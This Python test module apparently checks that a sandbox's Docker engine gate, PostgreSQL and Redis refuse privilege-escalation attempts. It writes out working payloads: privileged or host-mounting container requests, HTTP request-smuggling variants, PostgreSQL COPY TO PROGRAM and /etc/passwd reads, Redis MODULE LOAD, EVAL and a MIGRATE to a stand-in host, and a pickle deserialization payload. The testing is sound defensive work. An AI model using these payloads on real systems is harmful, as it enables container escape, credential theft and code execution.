"""From what the web is given to work with: the engine's gate, PostgreSQL, Redis."""

import http.client
import json
import os
import pickle
import re
import socket
import sys
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

import psycopg
import redis

from intruder.container import GATE, SECRETS, TMP
from intruder.outcome import Outcome, all_refused, none_of


class Engine(http.client.HTTPConnection):
    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(10)
        self.sock.connect(str(GATE))


def ask(method: str, path: str, body: object = None) -> int:
    """What the gate answers; a body in so many words is sent as it is."""
    connection = Engine("engine")
    words = body if isinstance(body, str) or body is None else json.dumps(body)
    connection.request(method, path, words, {"Content-Type": "application/json"})
    return connection.getresponse().status


_LOCAL = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
_BIND = {"Type": "volume", "Target": "/anfitrion", "VolumeOptions": {"DriverConfig": _LOCAL}}
_DISK = {"PathOnHost": "/dev/vda", "PathInContainer": "/dev/vda", "CgroupPermissions": "rwm"}


def be_root_by_the_engine(sandbox: str) -> Outcome:
    """Everything that makes an engine the root of its machine."""
    hosts = {"Image": sandbox, "Labels": {}}
    return _all_forbidden(
        {
            "privilegiado": ("POST", "/containers/create", {**hosts, "HostConfig": {"Privileged": True}}),
            "con / montado": ("POST", "/containers/create", {**hosts, "HostConfig": {"Binds": ["/:/anfitrion"]}}),
            "con la red de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"NetworkMode": "host"}}),
            "con sus procesos": ("POST", "/containers/create", {**hosts, "HostConfig": {"PidMode": "host"}}),
            "construir": ("POST", "/build?remote=http://x/", None),
            "descargar": ("POST", "/images/create?fromImage=busybox", None),
            "volúmenes": ("GET", "/volumes", None),
            "complementos": ("POST", "/plugins/pull?remote=x", []),
            "con su cgroup y sus mensajes": (
                "POST",
                "/containers/create",
                {**hosts, "HostConfig": {"IpcMode": "host", "CgroupnsMode": "host"}},
            ),
            "con un volumen que monta / de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"Mounts": [_BIND]}}),
            "con un disco de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"Devices": [_DISK]}}),
            "con los puertos de la máquina": ("POST", "/containers/create", {**hosts, "HostConfig": {"PortBindings": {"80/tcp": [{}]}}}),
            "con la red de otro contenedor": ("POST", "/containers/create", {**hosts, "HostConfig": {"NetworkMode": "container:lab-0"}}),
            "swarm": ("POST", "/swarm/init", {"ListenAddr": "0.0.0.0"}),  # asked of the engine, not of us
        }
    )


def pass_the_gate_by(sandbox: str) -> Outcome:
    """The same by ways that a gate might not look at: other spellings, old versions, other verbs, another protocol."""
    privileged = f'{{"Image": "{sandbox}", "hostconfig": {{"privileged": true}}}}'
    twice = f'{{"Image": "{sandbox}", "HostConfig": {{}}, "HostConfig": {{"Privileged": true}}}}'
    return _all_forbidden(
        {
            "otra caja": ("POST", "/containers/create", privileged),
            "clave repetida": ("POST", "/containers/create", twice),
            "ruta escapada": ("POST", "/containers/%63reate", {"HostConfig": {"Privileged": True}}),
            "versión vieja": ("POST", "/v1.18/containers/lab-0/start", {"Privileged": True}),
            "exec privilegiado": ("POST", "/containers/lab-0/exec", {"Cmd": ["id"], "Privileged": True}),
            "dispositivos": ("POST", "/containers/lab-0/update", {"DeviceCgroupRules": ["a *:* rwm"]}),
            "otra imagen": ("POST", "/images/load", None),
            "exportar": ("GET", "/containers/lab-0/export", None),
            "sesión de BuildKit": ("POST", "/session", None),
            "gRPC": ("POST", "/grpc", None),
            "otra red": ("POST", "/networks/bridge/connect", {"Container": "lab-0"}),
            "podar": ("POST", "/containers/prune", None),
        }
    )


def by_hand(sandbox: str) -> Outcome:
    """Requests as no library writes them: what the gate is shown might not be what the engine reads."""
    privileged = json.dumps({"Image": sandbox, "HostConfig": {"Privileged": True}}).encode()
    create, sized = b"POST /containers/create HTTP/1.1\r\nHost: x\r\nConnection: close\r\n", b"Content-Length: %d\r\n\r\n" % len(privileged)
    json_type, chunked = b"Content-Type: application/json\r\n", b"Transfer-Encoding: chunked\r\n"
    large = b'{"Hostname":"' + b"x" * (1 << 20) + b'",' + privileged[1:]
    tried = {
        "con otro tipo": create + b"Content-Type: text/plain\r\n" + sized + privileged,
        "sin tipo": create + sized + privileged,
        "a trozos": create + json_type + chunked + b"\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(privileged), privileged),
        "con dos medidas": create + json_type + chunked + b"Content-Length: 4\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(privileged), privileged),
        "mayor de lo que se enseña": create + json_type + b"Content-Length: %d\r\n\r\n" % len(large) + large,
        "con la dirección entera": create.replace(b"POST /", b"POST http://x/") + json_type + sized + privileged,
        "con otro verbo encima": b"GET" + create[4:] + b"X-HTTP-Method-Override: POST\r\n" + json_type + sized + privileged,
        "dos veces en una conexión": b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n" + create + json_type + sized + privileged,
        "por HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0",
        "con barras": create.replace(b"/containers", b"//containers/./..//containers") + json_type + sized + privileged,
    }
    made = [name for name, request in tried.items() if {b"101", b"201"} & set(_answers(request))]
    return none_of(made, otherwise=f"{len(tried)} peticiones, ninguna se cumple")


def _answers(request: bytes) -> list[bytes]:
    """The status codes of all that comes back, until the other side closes or is quiet."""
    said = b""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(str(GATE))
        with suppress(OSError):
            connection.sendall(request)
            while part := connection.recv(65536):
                said += part
    return re.findall(rb"^HTTP/1\.[01] (\d+)", said, re.MULTILINE)


def _all_forbidden(tried: dict[str, tuple[str, str, object]]) -> Outcome:
    answers = {name: ask(*words) for name, words in tried.items()}
    return none_of(
        [f"{name}: {code}" for name, code in answers.items() if code != 403], otherwise=f"{len(tried)} peticiones, todas con 403"
    )


def postgres(statement: str, *, user: str = "lab", name: str = "lab") -> Callable[[], object]:
    where = urlsplit(os.environ["LAB_DATABASE_URL"])

    def run() -> object:
        with psycopg.connect(
            host=where.hostname, port=where.port or 5432, user=user, dbname=name, connect_timeout=5,
            password=(SECRETS / "database_password").read_text().strip(),
        ) as connection:  # fmt: skip
            return connection.execute(statement).fetchone()

    return run


def other_databases() -> Outcome:
    return all_refused(postgres("SELECT 1", name="postgres"), postgres("SELECT 1", name="template1"), postgres("SELECT 1", user="lab_root"))


def the_databases_server() -> Outcome:
    return all_refused(
        postgres("COPY (SELECT 1) TO PROGRAM 'true'"),
        postgres("SELECT pg_read_file('/etc/passwd')"),
        postgres("SELECT lo_import('/etc/passwd')"),
        postgres("CREATE EXTENSION file_fdw"),
        postgres("ALTER ROLE lab SUPERUSER"),
        postgres("CREATE ROLE intruso"),
        postgres("COPY (SELECT 1) TO '/tmp/intruso'"),
        postgres("SELECT pg_ls_dir('/')::text"),
        postgres("SELECT rolpassword FROM pg_authid"),
        postgres("SET ROLE lab_root"),
        postgres("CREATE EXTENSION dblink"),
        postgres("LOAD '/tmp/intruso.so'"),
        postgres("ALTER SYSTEM SET log_destination = 'stderr'"),
    )


def _redis(*words: str, password: bool = True) -> Callable[[], object]:
    def run() -> object:
        client = redis.Redis.from_url(
            os.environ["LAB_REDIS_URL"], socket_timeout=5,
            password=(SECRETS / "redis_password").read_text().strip() if password else None,
        )  # fmt: skip
        return client.execute_command(*words)

    return run


def the_redis_server() -> Outcome:
    return all_refused(
        _redis("PING", password=False),
        _redis("CONFIG", "SET", "dir", str(TMP)),
        _redis("MODULE", "LOAD", f"{TMP}/x.so"),
        _redis("REPLICAOF", "NO", "ONE"),
        _redis("ACL", "LIST"),
        _redis("DEBUG", "SLEEP", "0"),
        _redis("MIGRATE", "192.0.2.1", "6379", "", "0", "1", "KEYS", "x"),
        _redis("RESTORE", "intruso", "0", "x"),
        _redis("ACL", "SETUSER", "intruso", "on", "nopass", "~*", "+@all"),
        _redis("EVAL", "return redis.call('config', 'get', '*')", "0"),
        _redis("EVAL", "return io.open('/etc/passwd'):read()", "0"),
    )


class _Program:
    """What runs when it is read, where what is read are Python's objects: it leaves a mark."""

    def __reduce__(self) -> tuple[Callable[[str], object], tuple[str]]:
        return os.mkdir, (str(MARK),)


MARK = TMP / "intruso-marca"


def run_in_others_by_the_cache() -> Outcome:
    """What the site's other processes read of the cache, read as they do."""
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "labsite.settings")
    sys.path.insert(0, "/srv/lab")
    from django.core.cache import cache  # the site's own: not there when this is packed

    _redis("SET", cache.make_key("intruso"), pickle.dumps(_Program()))()
    try:
        seen = cache.get("intruso")
    finally:
        _redis("DEL", cache.make_key("intruso"))()
    ran = MARK.exists()
    if ran:
        MARK.rmdir()
    return none_of(["se ejecuta lo que se deja"] if ran else [], otherwise=f"se lee {seen!r}")
